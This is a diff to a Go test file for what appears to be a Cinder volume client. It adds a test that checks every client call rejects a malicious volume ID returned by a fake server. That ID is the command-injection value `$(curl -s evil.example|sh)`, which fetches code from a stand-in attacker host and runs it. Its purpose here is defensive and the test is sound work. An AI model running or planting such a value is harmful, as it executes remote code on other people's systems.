@@ -142,6 +142,31 @@ func TestTokenIsNotSentWhereALinkOfAListLeads(t *testing.T) {
 	}
 }
 
+// Events name commands for administrators, with the IDs of volumes, attachments and snapshots in them.
+func TestAnIDThatIsNoneIsAnError(t *testing.T) {
+	const id = `$(curl -s evil.example|sh)`
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "application/json")
+		if r.Method == http.MethodPost {
+			w.WriteHeader(http.StatusAccepted)
+		}
+		v := fmt.Sprintf(`{"id": %q, "volume_id": "x", "metadata": {%q: "x"}}`, id, volume.KeyUID)
+		fmt.Fprintf(w, `{"volume": %[1]s, "volumes": [%[1]s], "attachments": [%[1]s], "snapshots": [%[1]s]}`, v)
+	}))
+	t.Cleanup(server.Close)
+	c := connect(t, credentials.Login{Endpoint: server.URL + "/v3", ProjectID: cindertest.Project})
+	_, got := c.Get(t.Context(), "x")
+	_, made := c.Create(t.Context(), volume.Spec{Name: "x"})
+	_, found := c.Find(t.Context(), "x")
+	_, attachments := c.Attachments(t.Context(), "x")
+	_, snapshots := c.Snapshots(t.Context(), "x")
+	for of, err := range map[string]error{"get": got, "create": made, "find": found, "attachments": attachments, "snapshots": snapshots} {
+		if !volume.Is(err, volume.Unavailable) || !strings.Contains(err.Error(), "is not an ID") {
+			t.Errorf("%s: %v", of, err)
+		}
+	}
+}
+
 // The answers of a storage do not fill the memory of the node.
 func TestAnswerThatIsTooLargeIsAnError(t *testing.T) {
 	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
